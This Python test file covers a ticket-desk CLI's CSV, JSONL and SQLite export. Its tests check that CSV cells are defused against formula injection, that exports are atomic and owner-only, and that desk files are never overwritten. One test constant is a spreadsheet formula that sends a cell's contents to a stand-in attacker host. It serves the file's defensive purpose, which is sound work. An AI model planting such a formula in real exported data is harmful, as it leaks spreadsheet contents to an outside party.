"""What goes out: whole files, readable by anybody's tools, in which nothing runs and nothing is lost."""

import csv
import gzip
import io
import json
import os
import sqlite3
import tracemalloc
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from escli.app import exporting, tickets
from escli.app.exporting import CSV, JSONL, SQLITE, Wanted
from escli.app.session import Session
from escli.core.intake import Opening
from escli.core.text import defused, undefused
from escli.errors import Refused, Unreadable
from escli.store.columns import TABLES, UNITS
from tests.benchmarks import desks

FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


def opened(session: Session, title: str = "No mail", client: str = "Quayside Books") -> int:
    done, *_ = tickets.new(session, Opening(client, "software", "high", title, description="Since\n+1 day"))
    return done.after.id


def cells(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file, strict=True))


def lines(text: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in text.splitlines()]


def printed(session: Session, wanted: Wanted, form: str) -> str:
    out = io.StringIO(newline="")
    exporting.stream(session, wanted, form, out)
    return out.getvalue()


@given(st.text() | st.from_regex(r"\A['=+\-@\t\r\n]{1,3}.*"))
def test_a_text_comes_back_from_a_spreadsheet_as_it_went_and_never_runs(text: str) -> None:
    cell = defused(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))
    assert undefused(cell) == text


def test_an_apostrophe_that_is_nobodys_defusing_stays() -> None:
    assert undefused("'s morgens") == "'s morgens"
    assert undefused(defused("'s morgens")) == "'s morgens"
    assert undefused(defused("'=1")) == "'=1"


def test_a_title_that_a_spreadsheet_would_run_is_defused_in_csv_and_nowhere_else(session: Session) -> None:
    opened(session, FORMULA)
    exporting.export(session, Wanted("tickets"), Path("t.csv"), CSV)
    assert cells(Path("t.csv"))[0]["title"] == f"'{FORMULA}"
    assert lines(printed(session, Wanted("tickets"), JSONL))[0]["title"] == FORMULA
    exporting.export(session, Wanted("tickets"), Path("t.db"), SQLITE)
    with closing(sqlite3.connect("t.db")) as file:
        assert file.execute("SELECT title FROM tickets").fetchall() == [(FORMULA,)]


def test_every_table_has_the_columns_that_its_page_explains_in_each_form(session: Session) -> None:
    number = opened(session)
    tickets.take(session, [number], None)
    exporting.export(session, Wanted("all"), Path("all.db"), SQLITE)
    for table, columns in TABLES.items():
        names = [column.name for column in columns]
        assert printed(session, Wanted(table), CSV).splitlines()[0].split(",") == names
        assert {tuple(line) for line in lines(printed(session, Wanted(table), JSONL))} <= {tuple(names)}
        with closing(sqlite3.connect("all.db")) as file:
            there = [row[1] for row in file.execute(f"PRAGMA table_info({table})")]
            said = dict(file.execute('SELECT "column", says FROM columns WHERE "table" = ?', (table,)).fetchall())
        assert there == [name for name in names if (table, name) != ("events", "texts")]
        assert [said[name] for name in there] == [column.says for column in columns if column.name in there]
        assert all(column.unit in UNITS and column.says.endswith((".", ",")) for column in columns)


def test_a_file_for_a_spreadsheet_begins_with_a_mark_and_a_pipe_does_not(session: Session) -> None:
    opened(session, "Börse geschlossen")
    exporting.export(session, Wanted("tickets"), Path("t.csv"), CSV)
    content = Path("t.csv").read_bytes()
    assert content.startswith(b"\xef\xbb\xbfid,")
    assert content.count(b"\r\n") == 2
    assert printed(session, Wanted("tickets"), CSV).startswith("id,")


def test_times_are_iso_and_flags_are_true_or_false_in_json(session: Session) -> None:
    opened(session)
    (ticket,) = lines(printed(session, Wanted("tickets"), JSONL))
    assert ticket["opened_at"] == "2026-05-28T20:26:40Z"
    assert (ticket["major"], ticket["imported"], ticket["closed_at"]) == (False, False, None)
    (event,) = lines(printed(session, Wanted("events"), JSONL))
    assert event["texts"] == {"title": "No mail", "description": "Since\n+1 day"}
    assert event["data"]["type"] == "software"
    assert "texts" not in event["data"]  # the digests mean nothing without their salts


def test_a_packed_file_is_the_same_bytes_again(session: Session) -> None:
    opened(session)
    for name in ("one.jsonl.gz", "two.jsonl.gz"):
        exporting.export(session, Wanted("events"), Path(name), JSONL)
    assert Path("one.jsonl.gz").read_bytes() == Path("two.jsonl.gz").read_bytes()
    assert gzip.decompress(Path("one.jsonl.gz").read_bytes()).decode() == printed(session, Wanted("events"), JSONL)


def test_a_period_takes_the_tickets_opened_in_it_with_all_that_is_theirs(session: Session) -> None:
    for title in ("Before", "Within", "After"):
        opened(session, title)
        session.now += 100
        session.forget_matrix()  # the rules know what time it was
    wanted = Wanted("tickets", session.now - 200, session.now - 100)
    assert [one["title"] for one in lines(printed(session, wanted, JSONL))] == ["Within"]
    for table in ("events", "stays"):
        assert {one["ticket"] for one in lines(printed(session, wanted._replace(what=table), JSONL))} == {2}
    exporting.export(session, wanted._replace(what="all"), Path("part.db"), SQLITE)
    with closing(sqlite3.connect("part.db")) as file:
        assert file.execute("SELECT id FROM tickets").fetchall() == [(2,)]
        assert file.execute("SELECT DISTINCT ticket FROM texts").fetchall() == [(2,)]
        assert file.execute("PRAGMA foreign_key_check").fetchall() == []


def test_the_sqlite_file_has_keys_and_a_search(session: Session) -> None:
    opened(session, "The router is dead")
    counts = exporting.export(session, Wanted("all"), Path("all.db"), SQLITE)
    assert counts["tickets"] == counts["events"] == 1
    with closing(sqlite3.connect("all.db")) as file:
        assert file.execute("SELECT ticket FROM texts JOIN texts_fts ON texts.rowid = texts_fts.rowid "
                            "WHERE texts_fts MATCH 'router'").fetchall() == [(1,)]  # fmt: skip
        keys = {(row[2], row[3]) for row in file.execute("PRAGMA foreign_key_list(events)")}
        assert keys == {("tickets", "ticket")}
        assert file.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        assert file.execute("PRAGMA application_id").fetchone() == (0,)  # no desk: nobody can work on it


def test_a_file_is_its_owners_only_and_keeps_the_permissions_that_it_had(session: Session) -> None:
    opened(session)
    for name, form in (("t.csv", CSV), ("t.db", SQLITE)):
        exporting.export(session, Wanted("tickets"), Path(name), form)
        assert Path(name).stat().st_mode & 0o777 == 0o600
        Path(name).chmod(0o640)
        exporting.export(session, Wanted("tickets"), Path(name), form)
        assert Path(name).stat().st_mode & 0o777 == 0o640


def test_an_export_that_fails_leaves_what_was_there(session: Session, monkeypatch: pytest.MonkeyPatch) -> None:
    opened(session)
    Path("t.csv").write_text("the old one", encoding="utf-8")
    monkeypatch.setattr(exporting, "defused", lambda _: 1 / 0)
    opened(session, FORMULA)
    with pytest.raises(ZeroDivisionError):
        exporting.export(session, Wanted("tickets"), Path("t.csv"), CSV)
    assert Path("t.csv").read_text("utf-8") == "the old one"
    assert not [path for path in Path().iterdir() if path.name.startswith(".t.csv")]


@pytest.mark.parametrize(
    "name",
    ["desk.db", "desk.db-wal", "desk.db-shm", "desk.db.files", "desk.db.files/ab/x", "matrix.yaml", "link", "other"],
)
def test_nothing_of_a_desk_is_written_over(session: Session, name: str) -> None:
    Path("link").symlink_to("desk.db")
    session.store.caught_up()
    Path("other").write_bytes(Path("desk.db").read_bytes())  # a backup
    before = Path("desk.db").read_bytes(), Path("matrix.yaml").read_bytes()
    with pytest.raises(Refused, match="belongs to a desk"):
        exporting.export(session, Wanted("tickets"), Path(name), CSV)
    assert before == (Path("desk.db").read_bytes(), Path("matrix.yaml").read_bytes())


def test_a_place_where_nothing_can_be_written_is_said(session: Session) -> None:
    for name in ("nowhere/t.csv", "."):
        with pytest.raises(Unreadable, match=r"cannot be written|is a folder"):
            exporting.export(session, Wanted("tickets"), Path(name), CSV)


def test_a_device_is_written_as_it_is(session: Session) -> None:
    opened(session)
    assert exporting.export(session, Wanted("tickets"), Path(os.devnull), CSV) == {"tickets": 1}
    assert not Path(os.devnull).is_file()


def test_an_export_sees_one_moment_whoever_writes_meanwhile(session: Session) -> None:
    opened(session)
    out = _Meddling(session.store.path)
    exporting.stream(session, Wanted("tickets"), JSONL, out)
    assert len(lines(out.text)) == 1
    assert printed(session, Wanted("tickets"), CSV).count("Meddled") == 1


def test_memory_stays_flat_however_large_the_desk(tmp_path: Path) -> None:
    session = desks.session_at(desks.make(tmp_path, 3_000, 0), desks.MONDAY_9)
    for table, form in (("tickets", CSV), ("events", JSONL), ("stays", JSONL), ("handoffs", CSV)):
        tracemalloc.start()
        with Path(os.devnull).open("w", encoding="utf-8") as out:
            exporting.stream(session, Wanted(table), form, out)
        _, most = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert most < 700_000, f"{table} as {form} needed {most} bytes"
    session.store.close()


class _Meddling:
    """Somebody changes the desk once the first words are out."""

    def __init__(self, database: Path) -> None:
        self._database, self.text = database, ""

    def write(self, text: str, /) -> int:
        if not self.text:
            other = Session.open(self._database)
            opened(other, "Meddled")
            other.store.close()
        self.text += text
        return len(text)
